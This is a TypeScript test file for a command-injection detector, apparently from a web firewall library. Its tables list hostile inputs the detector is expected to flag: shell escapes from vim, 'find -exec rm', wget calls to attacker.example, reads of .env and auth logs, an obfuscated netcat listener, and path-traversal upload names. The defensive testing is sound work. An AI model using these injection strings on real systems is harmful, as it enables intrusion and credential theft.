import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeCmdiUnfiltered, cmdiDetector, cmdiPrefilter } from '../../src/detect/cmdi.js';
import { CONTENT_PROFILES, type Paranoia } from '../../src/detect/types.js';
import {
  ANY_PARANOIA,
  expectLinearOnNearMatches,
  expectParanoiaNeverLowersScore,
  expectWellFormedUnderFuzz,
  type Row,
  rowInspector,
} from './helpers.js';

// Command-line grammar (src/detect/cmdi/cmdline.ts), whole-value expansions, quoted prefix words
// and restricted upload names (src/detect/cmdi/upload.ts).

const fired = rowInspector(cmdiDetector);

const ATTACKS: Row[] = [
  // an editor started with an ex command that runs a shell
  { input: '; vim notes.txt +!whoami', expect: true },
  { input: "| ex -c '!uname -a' x", expect: true },
  { input: 'vi -c :!id /tmp/x', expect: true, note: 'at the value start with -c' },
  { input: '&& nvim f \\!ps', expect: true, note: 'after a separator the escape alone' },
  // find running a command
  { input: "find /var/log -name '*.log' -exec rm {} +", expect: true },
  { input: '; find . -exec cat {} +', expect: true },
  // prefix words hidden by quotes, `time` in front of a command line
  { input: "ti''me uname", expect: true },
  { input: 'n"o"hup ps', expect: true },
  { input: '"nohup" wget attacker.example', expect: true },
  { input: 'time wget http://attacker.example/x', expect: true },
  // option syntax in a short value
  { input: 'uname --all', expect: true },
  { input: 'netstat -an', expect: true },
  { input: 'tar --help', expect: true },
  { input: 'set -e', expect: true },
  { input: 'ls -la /home', expect: true },
  { input: 'printenv --null', expect: true },
  // a file reader pointed at the system's tree
  { input: 'tail /var/log/auth.log', expect: true },
  { input: 'ls /root/', expect: true },
  { input: "'cat' /srv/app/.env", expect: true },
  { input: 'head /opt/app/config/db.yml', expect: true },
  // a shell handed a script
  { input: 'bash deploy.sh', expect: true },
  { input: 'zsh ./run.sh', expect: true },
  { input: '; fish x.sh', expect: true },
  { input: 'ash /tmp/a.sh', expect: true },
  // a variable name ended by an escape (`$u\c` is `$u` then `c`)
  { input: ';n$u\\c$u -lvp 4444', expect: true },
  // paranoia 2: package installs, find in the current directory, lone expansions, mail verbs
  { input: 'pip install leftpad', expect: false },
  { input: 'pip install leftpad', expect: true, paranoia: 2 },
  { input: 'npm i left-pad --save', expect: true, paranoia: 2 },
  { input: 'find . -exec ls {} +', expect: false },
  { input: 'find . -exec ls {} +', expect: true, paranoia: 2 },
  { input: '~-', expect: false },
  { input: '~-', expect: true, paranoia: 2 },
  { input: '~+3', expect: true, paranoia: 2 },
  { input: '!!', expect: false },
  { input: '!!', expect: true, paranoia: 2 },
  { input: '!-2!-3', expect: true, paranoia: 2 },
  { input: '\r\nRSET', expect: false },
  { input: '\r\nRSET', expect: true, paranoia: 2 },
  { input: '\nVRFY root', expect: true, paranoia: 2 },
  { input: 'vim f \\!id', expect: false, note: 'editor escape at the start without an ex command' },
  // paranoia 3: a quoted lone command, bare numbered expansions
  { input: "'date'", expect: false, paranoia: 2 },
  { input: "'date'", expect: true, paranoia: 3 },
  { input: '"uname"', expect: true, paranoia: 3 },
  { input: '~4', expect: false, paranoia: 2 },
  { input: '~4', expect: true, paranoia: 3 },
  { input: '!7', expect: true, paranoia: 3 },
];

const BENIGN: Row[] = [
  // words that are commands, in prose and product searches
  { input: 'Set -up fee waived', expect: false },
  { input: 'cut -off date for orders', expect: false },
  { input: 'find /r/python threads', expect: false },
  { input: 'more /about/team', expect: false },
  { input: 'time to leave', expect: false, paranoia: 3 },
  { input: "'Time' flies", expect: false, paranoia: 3 },
  { input: '"time" travel', expect: false, paranoia: 3 },
  { input: 'cat - the musical', expect: false },
  { input: 'Rock -n- roll', expect: false, paranoia: 3 },
  { input: 'Q&A; see docs', expect: false },
  { input: 'How do I pip install pandas?', expect: false, paranoia: 2 },
  { input: 'bash script', expect: false },
  { input: 'vim +10 notes.txt', expect: false },
  { input: 'vi README.md', expect: false },
  { input: 'see /docs/api.md', expect: false, paranoia: 3 },
  { input: '**Note:** use --force only if needed', expect: false, paranoia: 2 },
  { input: '- [ ] run the tests', expect: false, paranoia: 3 },
  // expansions inside text, exclamations, approximations
  { input: '~5 points', expect: false, paranoia: 3 },
  { input: 'wow!!', expect: false, paranoia: 3 },
  { input: '!important', expect: false, paranoia: 3 },
  { input: '!1 nope', expect: false, paranoia: 3 },
  { input: 'about ~ 5', expect: false, paranoia: 3 },
  // file paths and random strings
  { input: '/usr/bin/report.pdf', expect: false, paranoia: 3 },
  { input: '/usr/local/bin/backup.tar.gz', expect: false, paranoia: 3 },
  { input: 's3cr&W9x', expect: false, paranoia: 3 },
  { input: 'config.yml', expect: false, paranoia: 3, note: 'not an upload location' },
  { input: '.htaccess', expect: false, note: 'not an upload location' },
];

const UPLOADS: Row[] = [
  { input: '.htaccess', location: 'body.file.filename', source: 'body', expect: true },
  { input: 'web.config', location: 'header.x-filename', source: 'header', expect: true },
  { input: '../../home/u/.bashrc', location: 'body.upload.filename', source: 'body', expect: true },
  { input: 'authorized_keys', location: 'body.$.file_name', source: 'body', expect: true },
  { input: 'config.yaml', location: 'body.file.filename', source: 'body', expect: false },
  { input: 'config.yaml', location: 'body.file.filename', source: 'body', expect: true, paranoia: 2 },
  { input: 'wp-config.php.bak', location: 'header.x-file-name', source: 'header', expect: true, paranoia: 2 },
  { input: 'resume.pdf', location: 'body.file.filename', source: 'body', expect: false, paranoia: 3 },
  {
    input: 'holiday.htaccess.png',
    location: 'body.file.filename',
    source: 'body',
    expect: false,
    paranoia: 3,
  },
  { input: 'env', location: 'header.x-filename', source: 'header', expect: false, paranoia: 3 },
];

describe('cmdi command-line grammar: table', () => {
  it.each([...ATTACKS, ...BENIGN, ...UPLOADS])('$input ($location, PL$paranoia) → $expect', (row) => {
    expect(fired(row).fired, row.note ?? row.input).toBe(row.expect);
  });

  it('higher paranoia never lowers a score', () => expectParanoiaNeverLowersScore(cmdiDetector, ATTACKS));

  it('the prefilter keeps every value the analysis scores', () => {
    const levels: Paranoia[] = [1, 2, 3];
    for (const row of [...ATTACKS, ...BENIGN]) {
      let top = -1;
      for (const p of levels)
        for (const prof of CONTENT_PROFILES)
          top = Math.max(top, analyzeCmdiUnfiltered(row.input, prof, p)?.score ?? -1);
      if (top >= 0.3) expect(cmdiPrefilter(row.input), row.input).toBe(0);
    }
  });
});

describe('cmdi command-line grammar: fuzz and adversarial input', () => {
  const pieces = fc
    .array(
      fc.constantFrom(
        'vim',
        'ex',
        'find',
        '-exec',
        'cat',
        '+',
        '!',
        '!!',
        '~',
        '~+',
        '-',
        '--version',
        '-o',
        'time',
        "''",
        '"',
        "'",
        'bash',
        'rc',
        'x.sh',
        '/etc/',
        '/var/www/',
        'pip',
        'install',
        ' ',
        ' ',
        ';',
        '\\',
        '$u',
        '\r\n',
        'QUIT',
        '1',
      ),
      { maxLength: 30 },
    )
    .map((p) => p.join(''));

  it('never throws and returns well-formed findings', () => {
    expectWellFormedUnderFuzz(
      cmdiDetector,
      {
        value: fc.oneof(pieces, fc.string({ maxLength: 64 })),
        paranoia: ANY_PARANOIA,
        location: fc.constantFrom('query.q', 'body.f.filename', 'header.x-filename'),
      },
      { numRuns: 400, subtype: 'cmdi', requireFragment: true },
    );
  });

  it.each([
    'vim +!id ',
    'find -exec cat ',
    '~+',
    '!-1',
    'ls -la /etc/ ',
    'bash x.sh ',
    "'time' ",
    "ti''me ",
    '$u\\c',
  ])('1 MB of %j completes quickly', (unit) => {
    expectLinearOnNearMatches(cmdiDetector, [unit], { where: { location: 'query.q' } });
  });

  it('1 MB upload name completes quickly', () => {
    expectLinearOnNearMatches(cmdiDetector, ['.htaccess/'], { where: { location: 'body.f.filename' } });
  });
});
